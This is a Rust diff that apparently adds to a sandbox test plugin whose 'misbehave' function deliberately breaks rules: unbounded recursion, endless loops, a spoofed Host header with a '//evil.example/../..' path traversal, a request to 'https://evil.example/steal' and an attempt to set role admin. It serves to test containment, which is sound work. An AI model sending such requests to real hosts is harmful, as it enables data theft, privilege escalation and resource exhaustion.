@@ -47,6 +47,11 @@ fn recurse(depth: u64) -> u64 {
     black_box(recurse(black_box(depth + 1))) + room[3]
 }
 
+/// Keeps nothing in linear memory, so that wasm's own stack ends first.
+fn dive(depth: u64) -> u64 {
+    if depth == 0 { 0 } else { dive(depth + 1).wrapping_mul(31).wrapping_add(depth) }
+}
+
 fn misbehave(job: &Job, known: &mut Known) -> Ending {
     match job.on.settings.iter().find(|p| p.key == "behave").map_or("", |p| p.value.as_str()) {
         "loop" => loop {
@@ -54,6 +59,10 @@ fn misbehave(job: &Job, known: &mut Known) -> Ending {
         },
         "recurse" => {
             black_box(recurse(0));
+            done()
+        }
+        "dive" => {
+            black_box(dive(black_box(1)));
             done()
         }
         "allocate" => {
@@ -88,7 +97,11 @@ fn misbehave(job: &Job, known: &mut Known) -> Ending {
             let body = Body::Json("{\"email\":\"a@example.com\",\"role\":\"admin\"}".into());
             try_to_send(Request { body, ..request("save") })
         }
-        "foreign-host" => try_to_send(Request { path: vec![pair("id", "//evil.example/../..")], headers: vec![pair("Host", "evil.example")], ..request("tag") }),
+        "foreign-host" => try_to_send(Request {
+            path: vec![pair("id", "//evil.example/../..")],
+            headers: vec![pair("Host", "evil.example")],
+            ..request("tag")
+        }),
         "foreign-url" => try_to_send(request("https://evil.example/steal")),
         "many-calls" => loop {
             drop(egress::send(&request("find")));
